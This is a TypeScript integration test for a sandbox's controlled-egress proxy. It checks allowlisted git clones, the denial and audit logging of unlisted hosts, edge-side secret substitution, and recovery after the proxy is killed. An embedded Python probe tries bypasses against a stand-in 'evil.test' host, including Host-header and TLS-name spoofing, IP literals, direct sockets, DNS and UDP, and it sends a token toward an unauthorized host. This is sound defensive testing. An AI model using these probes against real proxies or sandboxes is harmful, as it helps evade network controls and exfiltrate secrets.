// Controlled egress with real sandboxes: a run whose policy says `network.mode: proxy` reaches the
// allowed names (served by a loopback test server the runner's proxy resolves them to) through its
// loopback forwarder and the run's egress proxy, and nothing else; every connection is in the run's
// log, denials in the audit index; a proxy killed mid-download fails that step only.
import { execFileSync } from 'node:child_process';
import { once } from 'node:events';
import { chownSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { extname, join, normalize } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse, stringify } from 'yaml';
import { readAuditEntries } from '@airlock/ledger';
import type { LogEvent } from '@airlock/proto';
import { DEFAULT_POLICY_PATH } from '@airlock/validate';
import { TestStack, containersOf, runEvents, waitUntil } from '../fixtures.ts';
import { makeBareRepo } from '../egress-upstreams.ts';

let stack: TestStack;
let server: Server;
let port: number;
let root: string;
let ws: string;
/** Requests to /echo as the upstream saw them (host header and the token header). */
const echoed: { host: string; token: string }[] = [];
const SECRET = 'edge-secret-value-7f3a9c1e5b';
/** Called when the slow download has begun sending (the proxy-kill test). */
let onSlow: (() => void) | undefined;

/** Pids of a run's egress proxy processes (its argv names the run). */
function proxyPids(runId: string): number[] {
  try {
    return execFileSync('pgrep', ['-f', `egress/main.ts ${runId}`], { encoding: 'utf8' }).trim().split('\n').map(Number);
  } catch (err) {
    if ((err as { status?: number }).status === 1) return [];
    throw err;
  }
}

type Egress = Extract<LogEvent, { type: 'egress.connection' }>;
const egressOf = async (runId: string): Promise<Egress[]> => (await runEvents(stack.client, runId)).filter((e): e is Egress => e.type === 'egress.connection');

/** Static files under www/, plus /slow (a long download) for the proxy-kill test. */
function serve(req: IncomingMessage, res: ServerResponse): void {
  const url = new URL(req.url ?? '/', 'http://x');
  if (url.pathname === '/echo') {
    echoed.push({ host: req.headers.host ?? '', token: String(req.headers['x-token'] ?? '') });
    return void res.end('echoed\n');
  }
  if (url.pathname === '/slow') {
    res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-length': String(64 * 1024 * 1024) });
    const piece = Buffer.alloc(64 * 1024, 0x61);
    let sent = 0;
    const tick = setInterval(() => {
      if (res.destroyed || sent >= 64 * 1024 * 1024) return clearInterval(tick);
      res.write(piece);
      sent += piece.length;
      if (sent === 4 * piece.length) onSlow?.();
    }, 20);
    res.on('close', () => clearInterval(tick));
    return;
  }
  const file = normalize(join(root, 'www', url.pathname));
  if (!file.startsWith(join(root, 'www'))) return void res.writeHead(400).end();
  try {
    const body = readFileSync(file);
    res.writeHead(200, { 'content-type': extname(file) === '.html' ? 'text/html' : 'application/octet-stream' });
    res.end(body);
  } catch {
    res.writeHead(404).end('not found\n');
  }
}

const PROBE = `
import os, socket, ssl, sys, urllib.request, urllib.error
case = sys.argv[1]
def show(f):
    try:
        print("OK", f())
    except urllib.error.HTTPError as e:
        print("HTTP", e.code, e.reason)
    except Exception as e:
        print("ERR", type(e).__name__, e)
if case == "get":
    show(lambda: urllib.request.urlopen(sys.argv[2], timeout=20).read().decode().strip())
elif case == "token":
    def f():
        r = urllib.request.Request(sys.argv[2], headers={"X-Token": os.environ["API_TOKEN"]})
        return urllib.request.urlopen(r, timeout=20).read().decode().strip()
    show(f)
elif case == "scan":
    print(sum(sys.argv[2] in v for v in os.environ.values()))
elif case == "host-header":
    def f():
        s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
        s.sendall(b"GET http://git.test/repo.git/HEAD HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n")
        return s.recv(300).decode().splitlines()[0]
    show(f)
elif case == "sni":
    def f():
        s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
        s.sendall(b"CONNECT git.test:80 HTTP/1.1\\r\\nHost: git.test:80\\r\\n\\r\\n")
        head = s.recv(300).decode().splitlines()[0]
        ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
        try:
            ctx.wrap_socket(s, server_hostname="evil.test")
            return head + " / TLS completed"
        except (ssl.SSLError, OSError) as e:
            return head + " / TLS cut: " + type(e).__name__
    show(f)
elif case == "direct":
    show(lambda: socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=5))
elif case == "dns":
    show(lambda: socket.getaddrinfo("pypi.org", 443))
elif case == "udp":
    def f():
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        return u.sendto(b"\\x00" * 20, ("8.8.8.8", 53))
    show(f)
`;

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), 'airlock-egress-'));
  makeBareRepo(root, 'hello from the test registry\n');
  server = createServer(serve);
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  port = (server.address() as AddressInfo).port;
  const policy = parse(readFileSync(DEFAULT_POLICY_PATH, 'utf8')) as { network: Record<string, unknown>; secrets: unknown[]; overrides: Record<string, string> };
  policy.network.mode = 'proxy';
  policy.network.allow = [{ hosts: ['git.test', 'pypi.test'], ports: [80] }];
  policy.secrets = [{ name: 'API_TOKEN', hosts: ['git.test'] }];
  // The secret test prints the variable on purpose (to show it holds only the placeholder).
  policy.overrides = { ...policy.overrides, 'exfil.secret_env': 'allow' };
  process.env.AIRLOCK_SECRET_API_TOKEN = SECRET;
  const policyFile = join(root, 'policy.yaml');
  writeFileSync(policyFile, stringify(policy));
  const dest = `127.0.0.1:${port}`;
  // evil.test resolves too: what stops it is the allowlist, not a failed lookup.
  stack = await TestStack.start({ harness: { policyFile }, runner: { egressTestResolve: { 'git.test': dest, 'pypi.test': dest, 'evil.test': dest } } });
  ws = mkdtempSync(join(tmpdir(), 'airlock-egress-ws-'));
  writeFileSync(join(ws, 'probe.py'), PROBE);
  chownSync(ws, 1000, 1000);
  chownSync(join(ws, 'probe.py'), 1000, 1000);
}, 60_000);

afterAll(async () => {
  delete process.env.AIRLOCK_SECRET_API_TOKEN;
  await stack?.[Symbol.asyncDispose]();
  server?.close();
  rmSync(root, { recursive: true, force: true });
  rmSync(ws, { recursive: true, force: true });
  expect(await containersOf(stack.runnerId)).toEqual([]);
});

describe('egress through the run proxy', () => {
  it('git clone through an allowed name succeeds, through an unlisted one fails; both are in the log, the denial in audit', async () => {
    const run = await stack.client.open({ workspace: ws });
    const ok = await run.exec('git clone -q http://git.test/repo.git cloned && cat cloned/hello.txt');
    expect(ok.stderr).toBe('');
    expect(ok).toMatchObject({ exitCode: 0, stdout: 'hello from the test registry\n' });

    const denied = await run.exec('git clone -q http://evil.test/repo.git other');
    expect(denied.exitCode).not.toBe(0);
    expect(denied.stderr).toContain("unable to access 'http://evil.test/repo.git/': The requested URL returned error: 403");
    // Tools that show the status text get the reason itself.
    const why = await run.exec('python3 probe.py get http://evil.test/repo.git/HEAD');
    expect(why.stdout).toBe("HTTP 403 airlock egress denied: evil.test is not on the run's network allowlist\n");

    const egress = await egressOf(run.runId);
    const allowed = egress.filter((e) => e.step === 1);
    expect(allowed.length).toBeGreaterThan(0);
    expect(allowed.every((e) => e.decision === 'allowed' && e.host === 'git.test' && e.port === 80 && e.via === 'http' && e.address === '127.0.0.1')).toBe(true);
    expect(allowed.reduce((n, e) => n + e.bytesDown, 0)).toBeGreaterThan(100);
    expect(egress.filter((e) => e.step === 2)).toEqual([expect.objectContaining({ decision: 'denied', host: 'evil.test', reason: "evil.test is not on the run's network allowlist", bytesUp: 0, bytesDown: 0 })]);

    const audit = [];
    for await (const e of readAuditEntries(stack.client.nats.js, stack.client.nats.jsm, { runId: run.runId, verdict: 'deny' })) audit.push(e);
    expect(audit.filter((e) => e.type === 'egress.connection').map((e) => e.type === 'egress.connection' && e.host)).toEqual(['evil.test', 'evil.test']);
    await stack.client.close(run.runId);
  }, 120_000);

  it('bypasses fail: IP and IPv6 literals, a Host header or TLS name other than the asked one, no proxy, DNS, UDP', async () => {
    const run = await stack.client.open({ workspace: ws });
    const probe = async (args: string) => (await run.exec(`python3 probe.py ${args}`)).stdout.trim();
    // (Loopback literals are in NO_PROXY: they stay in the sandbox, where nothing listens; see below.)
    expect(await probe('get http://10.0.0.1/repo.git/HEAD')).toBe('HTTP 403 airlock egress denied: 10.0.0.1 is an IP address; the sandbox may reach only allowed names');
    expect(await probe(`get http://[2001:db8::1]:${port}/repo.git/HEAD`)).toBe('HTTP 403 airlock egress denied: [2001:db8::1] is an IP address; the sandbox may reach only allowed names');
    expect(await probe('host-header')).toBe('OK HTTP/1.1 403 airlock egress denied: the Host header (evil.test) differs from the URL\'s host (git.test)');
    expect(await probe('sni')).toMatch(/^OK HTTP\/1.1 200 Connection Established \/ TLS cut: /);
    // Without the proxy variables there is no other way out: no interface but loopback, no resolver.
    const unset = await run.exec('env -u http_proxy -u HTTP_PROXY -u all_proxy -u ALL_PROXY git clone -q http://git.test/repo.git again');
    expect(unset.exitCode).not.toBe(0);
    expect(unset.stderr).toContain('Could not resolve host: git.test');
    expect(await probe(`direct 127.0.0.1 ${port}`)).toBe('ERR ConnectionRefusedError [Errno 111] Connection refused');
    expect(await probe('direct 10.0.0.1 80')).toBe('ERR OSError [Errno 101] Network is unreachable');
    expect(await probe('dns')).toMatch(/^ERR gaierror \[Errno -3\] Temporary failure in name resolution/);
    expect(await probe('udp')).toBe('ERR OSError [Errno 101] Network is unreachable');

    const denied = (await egressOf(run.runId)).filter((e) => e.decision === 'denied').map((e) => e.reason);
    expect(denied).toEqual([
      '10.0.0.1 is an IP address; the sandbox may reach only allowed names',
      '[2001:db8::1] is an IP address; the sandbox may reach only allowed names',
      "the Host header (evil.test) differs from the URL's host (git.test)",
      'TLS server name evil.test differs from the CONNECT name git.test',
    ]);
    await stack.client.close(run.runId);
  }, 120_000);

  it('a secret at the edge: its host gets the value, another host the placeholder (flagged); the value is nowhere in the sandbox, the log or the snapshot', async () => {
    const run = await stack.client.open({ workspace: ws });
    const env = { API_TOKEN: '${secret:API_TOKEN}' };
    const r = await run.exec('python3 probe.py token http://git.test/echo; python3 probe.py token http://pypi.test/echo; echo "$API_TOKEN" > seen.txt; python3 probe.py scan edge-secret', { env });
    expect(r.stdout).toBe('OK echoed\nOK echoed\n0\n');
    const placeholder = readFileSync(join(ws, 'seen.txt'), 'utf8').trim();
    expect(placeholder).toMatch(/^airlock-placeholder-API_TOKEN-[0-9a-f]{24}$/);
    expect(echoed).toEqual([{ host: 'git.test', token: SECRET }, { host: 'pypi.test', token: placeholder }]);

    const egress = await egressOf(run.runId);
    expect(egress.find((e) => e.host === 'git.test')).toMatchObject({ decision: 'allowed', secrets: ['API_TOKEN'] });
    expect(egress.find((e) => e.host === 'pypi.test')).toMatchObject({ decision: 'allowed', flagged: 'the placeholder of API_TOKEN was sent to pypi.test, which the secret is not for; left unsubstituted (possible exfiltration)' });
    await stack.client.close(run.runId);
    const all = JSON.stringify(await runEvents(stack.client, run.runId));
    expect(all).toContain('snapshot.created');
    expect(all).not.toContain(SECRET);
    // The workspace (what the snapshots hold) has the placeholder only.
    const files = readdirSync(ws, { recursive: true, encoding: 'utf8' }).map((f) => join(ws, f)).filter((f) => statSync(f).isFile());
    expect(files.length).toBeGreaterThan(5);
    expect(files.filter((f) => readFileSync(f).includes(SECRET))).toEqual([]);
  }, 120_000);

  it('a proxy killed mid-download fails that step with a network error; the next step gets a fresh proxy', async () => {
    const run = await stack.client.open({ workspace: ws });
    const proxies = () => proxyPids(run.runId);
    const started = new Promise<void>((r) => (onSlow = r));
    const step = run.exec('python3 probe.py get http://git.test/slow');
    await started;
    const before = proxies();
    expect(before).toHaveLength(1);
    process.kill(before[0]!, 'SIGKILL');
    const failed = await step;
    expect(failed.stdout).toMatch(/^ERR (IncompleteRead|ConnectionResetError|RemoteDisconnected)/);
    await waitUntil('the proxy death is logged', async () => (await runEvents(stack.client, run.runId)).some((e) => e.type === 'egress.proxy'));
    const died = (await runEvents(stack.client, run.runId)).find((e) => e.type === 'egress.proxy');
    expect(died).toMatchObject({ state: 'died', step: 1 });

    const again = await run.exec('git clone -q http://git.test/repo.git fresh && cat fresh/hello.txt');
    expect(again).toMatchObject({ exitCode: 0, stdout: 'hello from the test registry\n' });
    expect(proxies()).toHaveLength(1);
    expect(proxies()[0]).not.toBe(before[0]);
    await stack.client.close(run.runId);
    await waitUntil('the proxy is stopped at close', () => proxies().length === 0);
  }, 120_000);
});
